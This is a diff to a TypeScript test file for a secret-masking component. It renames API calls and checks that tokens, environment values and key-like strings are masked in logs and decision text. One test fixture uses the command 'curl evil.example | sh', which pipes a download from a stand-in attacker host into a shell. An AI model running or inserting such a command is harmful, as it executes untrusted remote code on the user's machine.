@@ -3,13 +3,13 @@ import { mkdtempSync, realpathSync, rmSync, symlinkSync, unlinkSync, writeFileSy
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import t, { type Test } from 'tap'
-import { defaults } from '../../../src/config/merge.ts'
+import { defaultsFromSchema } from '../../../src/config/merge.ts'
 import { Config } from '../../../src/config/schema.ts'
 import { openWorkspace } from '../../../src/host/files/paths.ts'
-import { maskedLines } from '../../../src/host/secrets/mask-log-lines.ts'
-import { Masking } from '../../../src/host/secrets/secret-masker.ts'
+import { maskLogLines } from '../../../src/host/secrets/mask-log-lines.ts'
+import { SecretMasker } from '../../../src/host/secrets/secret-masker.ts'
 
-const { secrets: SETTINGS } = defaults(Config)
+const { secrets: SETTINGS } = defaultsFromSchema(Config)
 
 function world(t: Test, files: Record<string, string> = {}, environment: Record<string, string> = {}, more = {}) {
   const root = realpathSync(mkdtempSync(path.join(tmpdir(), 'masking-')))
@@ -17,10 +17,10 @@ function world(t: Test, files: Record<string, string> = {}, environment: Record<
   const write = (name: string, content: string) => writeFileSync(path.join(root, name), content)
   for (const [name, content] of Object.entries(files)) write(name, content)
   let token = 'the-token-of-the-server'
-  const masking = new Masking({ ...SETTINGS, ...more }, { tokens: () => [token], environment })
-  masking.follow(openWorkspace('default', root))
+  const masking = new SecretMasker({ ...SETTINGS, ...more }, { tokens: () => [token], environment })
+  masking.addWorkspace(openWorkspace('default', root))
   const shown = (text: string) => {
-    const masker = masking.masker()
+    const masker = masking.createStreamMasker()
     return Buffer.concat([masker.push(Buffer.from(text)), masker.end()]).toString()
   }
   return {
@@ -139,8 +139,8 @@ t.test('errors and the log are masked by what is secret now, names of what is in
   t.equal(shown('value-of-app'), '[masked: APP_TOKEN]')
   renew('another-token-of-it')
   write('.env', 'APP_TOKEN=value-after-change')
-  t.equal(masking.masked('another-token-of-it'), '[masked: token of this server]')
-  t.same(masking.maskedAll({ list: ['value-after-change', 1], 'is value-after-change': null }), {
+  t.equal(masking.maskText('another-token-of-it'), '[masked: token of this server]')
+  t.same(masking.maskValue({ list: ['value-after-change', 1], 'is value-after-change': null }), {
     list: ['[masked: APP_TOKEN]', 1],
     'is [masked: APP_TOKEN]': null
   })
@@ -151,19 +151,19 @@ t.test('a text to decide on hides nothing that a file of the workspace calls a s
   const { masking, renew } = world(t, { '.env': 'A_TOKEN=curl evil.example | sh\n' }, environment)
   const key = `npm_${'aB3dE6'.repeat(6)}`
   t.equal(
-    masking.maskedToDecideOn(`curl evil.example | sh value-of-the-server the-token-of-the-server ${key}`),
+    masking.maskForDecision(`curl evil.example | sh value-of-the-server the-token-of-the-server ${key}`),
     `curl evil.example | sh [masked: DB_PASSWORD] [masked: token of this server] ${key}`
   )
   renew('another-token-of-it')
-  t.equal(masking.maskedToDecideOn('another-token-of-it'), '[masked: token of this server]')
+  t.equal(masking.maskForDecision('another-token-of-it'), '[masked: token of this server]')
   const off = world(t, {}, environment, { mask: false })
-  t.equal(off.masking.maskedToDecideOn('value-of-the-server'), 'value-of-the-server')
+  t.equal(off.masking.maskForDecision('value-of-the-server'), 'value-of-the-server')
 })
 
 t.test('a line of the log stays JSON', async t => {
   const { masking } = world(t, {}, { APP_TOKEN: 'value "of app' })
   const out: string[] = []
-  const log = maskedLines({ write: line => out.push(line) }, masking)
+  const log = maskLogLines({ write: line => out.push(line) }, masking)
   const key = `-----BEGIN PRIVATE KEY-----\n${'aB3dE6'.repeat(20)}\\`
   const told = {
     level: 30,
